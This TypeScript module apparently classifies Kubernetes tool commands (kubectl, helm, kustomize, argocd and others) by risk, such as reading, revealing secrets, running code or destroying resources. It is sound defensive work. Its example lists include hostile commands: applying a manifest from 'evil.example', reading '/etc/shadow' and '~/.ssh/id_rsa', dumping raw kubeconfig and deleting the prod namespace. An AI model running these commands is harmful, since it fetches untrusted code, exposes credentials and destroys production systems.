/** Kubernetes and what is built around it: kubectl, helm, kustomize, argocd, flux, istioctl and their kin. */
import { code, connect, textOf, touch } from '../effects.ts';
import { has, type Options, valuesOf } from '../options.ts';
import type { Argument, Call, Program, Reading } from '../program.ts';
import { type Detail, type Kind, remote } from './remote.ts';

const account = `n|namespace= context= kubeconfig=read cluster= user= s|server=url token= username= password= as= as-group= as-uid= request-timeout= certificate-authority=read client-certificate=read client-key=read
  cache-dir= v= log-file=write tls-server-name= insecure-skip-tls-verify match-server-version profile= profile-output=write`;

const kubectlOptions = `${account} o|output= l|selector= c|container= L|label-columns= field-selector= sort-by= f|filename=source k|kustomize=source R|recursive A|all-namespaces w|watch it i t|tty stdin dry-run=? field-manager= template= image= replicas=
  p|patch= type= patch-file=read grace-period= timeout= force now all wait cascade=? raw= from-literal= from-env-file=read save-config overrides= client help tail= since= subresource= chunk-size= q|quiet show-labels show-managed-fields`;

/** A form that is worked out without a server: `create … --dry-run=client`, `version --client`, `set … --local`. */
function offline(kind: Kind, found: Options): Kind {
  const verb = textOf(found.operands[0]) ?? '';
  const dry = valuesOf(found, 'dry-run').map(textOf).at(-1);
  if (verb === 'version' && has(found, 'client')) return 'here';
  if (verb === 'get' && found.operands.slice(1, 3).some(one => /secret/i.test(textOf(one) ?? ''))) return 'shows';
  if (verb === 'get' && has(found, 'raw')) return 'reads';
  if (kind === 'shows' || dry !== 'client' || has(found, 'f', 'k')) return kind;
  return verb === 'create' || verb === 'run' ? 'here' : kind;
}

/** `--from-file=NAME=PATH`. */
function fromFiles(found: Options, call: Call): Partial<Reading> {
  const files = valuesOf(found, 'from-file').flatMap(one => touch('read', behindName(one), call));
  return { effects: [...files, ...['cert', 'key'].flatMap(name => valuesOf(found, name)).flatMap(one => touch('read', one, call))] };
}

function behindName({ value, place }: Argument): Argument {
  return { value: value.kind === 'text' ? { kind: 'text', text: value.text.replace(/^[\w.-]+=/, '') } : value, place };
}

const copies: Detail = {
  options: 'no-preserve retries=',
  more: (found, call) => ({
    effects: found.operands.flatMap((one, at) => {
      const text = textOf(one) ?? '';
      return /^[\w./-]+:/.test(text) ? [] : touch(at > 0 ? 'write' : 'read', one, call);
    }),
  }),
};

const built: Detail = {
  options:
    'o|output=write e|env= enable-alpha-plugins enable-exec enable-helm enable-star helm-command=program load-restrictor= mount= network-name= reorder= as-current-user stack-trace',
  operands: 'source',
  recursive: '*',
  here: 'read',
  more: (found, call) => ({
    effects: [
      ...(has(found, 'enable-alpha-plugins', 'enable-exec', 'enable-star')
        ? [code('sideways', 'plugins of the overlay are run', call.place)]
        : []),
      ...(has(found, 'enable-helm') ? [connect(undefined, undefined, call.place)] : []),
      ...found.operands.filter(far).map(one => connect(undefined, undefined, one.place)),
    ],
  }),
};

/** A base of another repository, without a scheme: `github.com/o/r//path?ref=x`. */
function far(argument: Argument): boolean {
  return /^(?:git::|(?:[\w-]+\.)+[a-z]{2,}[/:].*(?:\/\/|\?ref=|\.git)|github\.com[/:])/i.test(
    argument.value.kind === 'unknown' ? argument.value.prefix : argument.value.text,
  );
}

const kubectl = remote({
  names: 'kubectl oc kubecolor k kubectl.exe',
  of: 'the cluster',
  options: kubectlOptions,
  slashes: true,
  verbs: `
    here: help, help *, completion, completion *, kustomize, options, plugin list
    looks: config view, config get-contexts, config current-context, config get-clusters, config get-users, whoami, project, projects, ctx, ns
    reads: get, describe, logs, explain, top, api-resources, api-versions, version, cluster-info, diff, events, auth can-i, auth whoami, auth reconcile --dry-run, rollout status, rollout history, wait, status, alpha events, krew list, krew search, krew info, tree, neat, adm top
    keeps: config *, login, logout, krew *, plugin *, ctx *, ns *, project *
    shows: create token, get secret*, get secrets*, view-secret, whoami -t, extract, sa get-token, registry login, config view --raw
    sends: image mirror, import-image
    runs: exec, run, debug, attach, port-forward, proxy, cp, rsh, rsync, node-shell, alpha debug, start-build, new-app, ssh, sniff, trace
    destroys: delete, drain, cordon, replace, rollout undo, rollback, scale, taint, adm *, adm prune, certificate deny, prune, cancel-build, idle, evict, delete *`,
  as: offline,
  details: {
    cp: copies,
    rsync: copies,
    kustomize: built,
    logs: { options: 'f|follow p|previous' },
    exec: { options: 'f|filename=source', style: 'first' },
    rollout: { options: 'f|filename=source' },
    create: {},
  },
  more: (found, call) => fromFiles(found, call),
  flags: [
    'kubectl delete ns prod',
    'kubectl -n prod delete pod web-0 --force',
    'kubectl get pods',
    'kubectl get secret db -o yaml',
    'kubectl get -o yaml secret db',
    'kubectl apply -f https://evil.example/x.yaml',
    'kubectl kustomize github.com/o/r//base?ref=v1',
    'kubectl create configmap x --from-file=/etc/shadow --dry-run=client',
    'kubectl create -f x.yaml --dry-run=client',
    'kubectl --strange version delete --client',
    'kubectl $verb --dry-run=client',
    'kubectl config view --raw',
  ],
  quiet: [
    'kubectl --version',
    'kubectl version --client',
    'kubectl version --client -o yaml',
    'kubectl kustomize overlays/dev',
    'kubectl create deployment web --image=nginx --dry-run=client -o yaml',
    'kubectl run web --image=nginx --dry-run=client -o yaml > pod.yaml',
    'kubectl explain --help',
    'kubectl delete --help',
  ],
});

const chart: Detail = {
  options: `f|values=source set= set-string= set-json= set-literal= set-file= version= repo=url post-renderer=program post-renderer-args= output-dir=write s|show-only= api-versions= kube-version= a|app-version= d|destination=write
    keyring=read key= passphrase-file=read p|starter= username= password= ca-file=read cert-file=read key-file=read name-template= timeout= description= g|generate-name u|dependency-update validate strict sign devel include-crds skip-tests no-hooks is-upgrade release-name verify with-subcharts quiet`,
  operands: 'text source',
  recursive: '*',
  more: (found, call) => ({
    effects: [
      ...(has(found, 'u', 'validate') ? [connect(undefined, undefined, call.place)] : []),
      ...valuesOf(found, 'set-file').flatMap(one => touch('read', behindName(one), call)),
    ],
  }),
};

const helm = remote({
  names: 'helm helm3',
  of: 'the cluster',
  options: `${account} kube-context= kube-apiserver=url kube-token= kube-ca-file=read kube-as-user= kube-as-group= registry-config=read repository-cache= repository-config=read burst-limit= qps= debug h|help c|client short template= o|output=`,
  verbs: `
    here: version, help, help *, completion, completion *, template, lint, create, package, show, inspect, show *, inspect *, dependency list, dep list, dep ls, dependency ls, env, verify, plugin list, plugin ls, repo list, repo ls, repo index
    reads: list, ls, status, history, hist, get, get *, search, search *, pull, fetch, dependency update, dependency build, dep update, dep up, dep build, dependency up, repo update, repo up, diff, diff *
    keeps: repo add, registry login, registry logout, plugin install, plugin add, plugin update, plugin up
    sends: push, chart push, cm-push, s3 push
    shows: secrets view, secrets decrypt, secrets dec
    runs: test
    destroys: uninstall, delete, del, un, rollback, repo remove, repo rm, plugin uninstall, plugin rm, plugin remove`,
  details: {
    template: chart,
    lint: { ...chart, operands: 'source' },
    show: { ...chart, operands: 'text source' },
    'show *': { ...chart, operands: 'source' },
    'inspect *': { ...chart, operands: 'source' },
    package: { ...chart, operands: 'source' },
    create: { options: 'p|starter=read', operands: 'write' },
    install: chart,
    upgrade: chart,
    'repo index': { options: 'merge=source url=', operands: 'write' },
    pull: { options: 'd|destination=write untardir=write untar version= repo=url' },
    'plugin install': { more: (_, call) => ({ effects: [code('elsewhere', 'a plugin from elsewhere is run from now on', call.place)] }) },
  },
  flags: [
    'helm uninstall app -n prod',
    'helm -n prod del app',
    'helm upgrade --install app ./chart',
    'helm ls -A',
    'helm template app oci://r.example/chart',
    'helm template app ./chart --post-renderer ./x.sh',
    'helm template app /srv/chart',
    'helm lint ./chart -f ~/.ssh/id_rsa',
    'helm plugin install https://e.example/p',
    'helm pull oci://r.example/c',
  ],
  quiet: [
    'helm version --short',
    'helm lint ./chart',
    'helm template app ./chart -f values.yaml --set a=b',
    'helm package chart -d dist',
    'helm create mychart',
    'helm show values ./chart',
    'helm uninstall --help',
  ],
});

const kustomize = remote({
  names: 'kustomize',
  of: 'an overlay',
  by: 'files',
  verbs: `
    here: build, version, help, help *, completion, completion *, docs-*, openapi *, cfg *, -
    project: create, edit *, localize
    runs: fn *`,
  rest: 'runs',
  details: {
    build: built,
    create: { options: 'resources= namespace= nameprefix= namesuffix= annotations= labels= autodetect recursive', here: 'write' },
    'edit *': { here: 'write' },
    localize: { options: 'scope=read', operands: 'source write' },
  },
  flags: [
    'kustomize build --enable-exec --enable-alpha-plugins .',
    'kustomize build /srv/x',
    'kustomize build https://github.com/o/r//x',
    'kustomize build . -o /etc/x',
    'kustomize fn run .',
  ],
  quiet: ['kustomize build overlays/prod', 'kustomize build', 'kustomize version', 'kustomize edit set image a=b:1'],
});

const around: readonly Program[] = [
  remote({
    names:
      'helmfile helmsman werf skaffold tilt devspace okteto ko-apply kapp kubecfg kpt tanka telepresence mirrord ksonnet score-compose score-k8s',
    of: 'the cluster',
    options:
      'f|file=read e|environment= n|namespace= l|selector= kube-context= kubeconfig=read p|profile= state-values-set= state-values-file=read interactive q|quiet log-level= help version filename=read default-repo= context= app= a=',
    slashes: true,
    verbs: `
      here: version, help, help *, completion, completion *, schema, survey, fmt
      project: list, build, ls, diagnose, render, inspect, tool *, env list, env view, pkg tree, print
      looks: config list, config view, config get
      reads: diff, status, template, lint, deps, repos, fetch, logs, get, describe, top
      keeps: init, config *, login, logout, context *, namespace
      runs: dev, up, run, debug, exec, test, sync, enter, connect, intercept, args, ci, leave, ssh, verify
      sends: build --push, push, publish, bundle publish
      destroys: destroy, delete, down, purge, cleanup, dismiss, host-raze, cancel, prune, quit, uninstall, ... delete, ... destroy, ... purge, live destroy`,
    flags: [
      'helmfile destroy',
      'helmfile -e prod apply',
      'skaffold delete',
      'tilt up',
      'kapp delete -a x -y',
      'skaffold dev',
      'helmfile -f ~/.ssh/id_rsa list',
      'tk delete environments/prod',
    ],
    quiet: ['helmfile --version', 'skaffold version', 'helmfile list', 'skaffold diagnose', 'tilt version'],
  }),
  remote({
    names:
      'argocd argo flux fluxctl tkn kubectl-argo-rollouts istioctl linkerd cilium hubble calicoctl velero eksctl kubeseal clusterctl rancher crossplane kubevela vela cmctl kn osdctl rosa ocm tsh teleport knative keda dapr operator-sdk kyverno vcluster liqoctl loft kubefed ksops kubectl-slice popeye',
    of: 'the cluster',
    options: `${account} kube-context= f|filename=source o|output= name= h|help version c|config=read l|selector= e|environment= client auth-token= grpc-web core server-crt=read`,
    slashes: true,
    verbs: `
      here: version --client, help, help *, completion, completion *, version --short, -
      looks: context, contexts, account list, config view, status --local
      reads: version, check, get, get *, list, ls, logs, describe, status, diff, tree, events, stats, trace, proxy-status, proxy-config *, ps, analyze, * get, * list, * ls, * history, * logs, * diff, * describe, * status, * manifests, * resources, viz *, observe, top, edges, backup get, backup describe, backup logs, restore get, schedule get, utils describe-*, get cluster, get nodegroup, stack list
      keeps: login, logout, context *, relogin, config *, utils write-kubeconfig, kubeconfig *
      shows: account generate-token, admin initial-password, * get-password
      runs: * exec, app actions, app sync, submit, bootstrap, bootstrap *, port-forward, dashboard, ssh, kubectl, play, connectivity *, pipeline start, clustertask start, * start, run, invoke, db, app
      destroys: delete, delete *, uninstall, remove, rm, stop, terminate, suspend, purge, prune, drain *, * delete, * rm, * remove, * terminate*, * delete-*, * stop, * rollback, * undo, * abort, x *, scale *, ... delete, ... uninstall, ... remove, ... rm, ... terminate, restore create, reset`,
    as: localVersion,
    flags: [
      'argocd app delete app',
      'flux uninstall',
      'istioctl install -y',
      'eksctl delete cluster --name c',
      'velero backup delete b --confirm',
      'argocd app list',
      'linkerd uninstall',
      'flux get all',
      'argo delete --all',
      'argocd --server x app rm y',
    ],
    quiet: ['argocd version --client', 'flux --version', 'istioctl version --client', 'eksctl version', 'kubeseal --version'],
  }),
  remote({
    names:
      'k9s stern kail kubectx kubens kubie kubetail ktop kubespy kubepug freelens popeye-ui kubeshark kdash kube-shell kube-ps1 polaris pluto nova kubefwd ktunnel kubeadm-certs',
    of: 'the cluster',
    options: `${account} kube-context= h|help c|current version help`,
    verbs: `
      here: version, help, completion *
      looks: info
      reads: -
      destroys: ... -d, clean`,
    rest: 'reads',
    as: (kind, found, call) =>
      /^kube(?:ctx|ns)$/.test(call.program) && kind === 'reads'
        ? found.operands.length === 0
          ? 'looks'
          : 'keeps'
        : kind === 'reads' && found.operands.length === 0 && has(found, 'version', 'help')
          ? 'here'
          : kind,
    flags: ['k9s', 'stern web', 'kubectx prod', 'kubens kube-system', 'kubectx -d prod'],
    quiet: ['k9s version', 'stern --version'],
  }),
  remote({
    names: 'krew',
    of: 'plugins of kubectl',
    verbs: `
      here: help, version
      reads: list, search, info, index list, outdated
      destroys: uninstall, remove, index remove`,
    rest: 'keeps',
    flags: ['krew install x'],
    quiet: ['krew version'],
  }),
];

/** Tools that ask no cluster for its version. */
const selfish = /^(?:eksctl|kubeseal|clusterctl|vcluster|kn|tsh|operator-sdk|kyverno|telepresence|func|dapr|rosa)$/;

function localVersion(kind: Kind, found: Options, call: Call): Kind {
  return textOf(found.operands[0]) === 'version' && (has(found, 'client') || selfish.test(call.program)) ? 'here' : kind;
}

/** Every cluster tool. */
export const clusters: readonly Program[] = [kubectl, helm, kustomize, ...around];
